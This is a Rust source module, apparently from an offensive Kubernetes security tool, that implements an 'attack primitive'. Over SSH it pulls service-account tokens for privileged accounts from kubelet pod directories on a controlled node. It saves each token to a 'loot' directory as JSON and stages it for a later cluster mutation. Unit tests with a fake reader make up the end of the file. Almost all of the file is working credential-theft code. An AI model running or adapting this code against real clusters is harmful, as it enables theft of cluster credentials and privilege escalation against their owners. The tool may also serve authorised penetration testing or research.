use anyhow::Context;
use async_trait::async_trait;
use chrono::{DateTime, Utc};
use pkg_remote::{RemoteReader, fetch_token};
use pkg_types::capability::AttackKind;
use pkg_types::config::SshConfig;
use pkg_types::service_account::{CriticalServiceAccount, ScopeLevel};
use serde::{Deserialize, Serialize};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use tracing::info;

use crate::registry::AttackPrimitive;

/// Token captured for a selected account, written as JSON to the loot directory.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct LootRecord {
    pub name: String,
    pub kind: AttackKind,
    pub level: ScopeLevel,
    pub capabilities: Vec<String>,
    pub token: String,
    pub captured_at: DateTime<Utc>,
}

/// Pulls the selected account's token off the controlled node and stages it
/// for the Kubernetes mutation that follows.
pub struct TokenStager {
    reader: Arc<dyn RemoteReader>,
    loot_dir: PathBuf,
}

impl TokenStager {
    pub fn new(reader: Arc<dyn RemoteReader>, loot_dir: impl Into<PathBuf>) -> Self {
        Self {
            reader,
            loot_dir: loot_dir.into(),
        }
    }

    /// `<loot-dir>/<namespace>_<name>.json`
    pub fn record_path(&self, account: &str) -> PathBuf {
        self.loot_dir.join(format!("{}.json", account.replace('/', "_")))
    }

    async fn stage(
        &self,
        kind: AttackKind,
        target: &CriticalServiceAccount,
        connection: &SshConfig,
    ) -> anyhow::Result<PathBuf> {
        let token = fetch_token(self.reader.as_ref(), target, connection).await?;
        let record = LootRecord {
            name: target.account.name.clone(),
            kind,
            level: target.level,
            capabilities: target.capability_tags(),
            token,
            captured_at: Utc::now(),
        };
        let path = self.record_path(&target.account.name);
        write_record(&path, &record).await?;
        Ok(path)
    }
}

async fn write_record(path: &Path, record: &LootRecord) -> anyhow::Result<()> {
    if let Some(dir) = path.parent() {
        tokio::fs::create_dir_all(dir)
            .await
            .with_context(|| format!("failed to create {}", dir.display()))?;
    }
    let json = serde_json::to_string_pretty(record)?;
    tokio::fs::write(path, json)
        .await
        .with_context(|| format!("failed to write {}", path.display()))?;
    Ok(())
}

#[async_trait]
impl AttackPrimitive for TokenStager {
    async fn run(
        &self,
        kind: AttackKind,
        targets: &[CriticalServiceAccount],
        connection: &SshConfig,
    ) -> anyhow::Result<()> {
        for target in targets {
            let path = self.stage(kind, target, connection).await?;
            info!("Staged token of {} for {} at {}", target.account.name, kind, path.display());
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::planner::tests::critical;
    use pkg_types::capability::{Capability, CapabilityKind};

    struct FakeReader(String);

    #[async_trait]
    impl RemoteReader for FakeReader {
        async fn read_remote_file(&self, _connection: &SshConfig, path: &str) -> anyhow::Result<String> {
            assert!(path.starts_with("/var/lib/kubelet/pods/"));
            Ok(self.0.clone())
        }
    }

    fn scratch_dir(name: &str) -> PathBuf {
        std::env::temp_dir().join(format!("sahunt-{}-{}", name, std::process::id()))
    }

    #[tokio::test]
    async fn writes_loot_record() {
        let dir = scratch_dir("stage");
        let stager = TokenStager::new(Arc::new(FakeReader("eyJhbGciOi\n".to_string())), &dir);
        let target = critical(
            "kube-system/coredns",
            vec![Capability::unrestricted(CapabilityKind::CreateTokens)],
        );

        stager
            .run(AttackKind::CreateTokens, &[target], &SshConfig::default())
            .await
            .unwrap();

        let path = dir.join("kube-system_coredns.json");
        let record: LootRecord =
            serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        assert_eq!(record.name, "kube-system/coredns");
        assert_eq!(record.kind, AttackKind::CreateTokens);
        assert_eq!(record.level, ScopeLevel::Cluster);
        assert_eq!(record.capabilities, vec!["createtokens"]);
        assert_eq!(record.token, "eyJhbGciOi");
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[tokio::test]
    async fn unmounted_target_fails() {
        let dir = scratch_dir("unmounted");
        let stager = TokenStager::new(Arc::new(FakeReader("token".to_string())), &dir);
        let mut target = critical("dev/app", vec![Capability::unrestricted(CapabilityKind::CreatePods)]);
        target.account.pod = None;

        let err = stager
            .run(AttackKind::CreatePods, &[target], &SshConfig::default())
            .await
            .unwrap_err();
        assert!(err.to_string().contains("not mounted"));
        assert!(!dir.exists());
    }
}
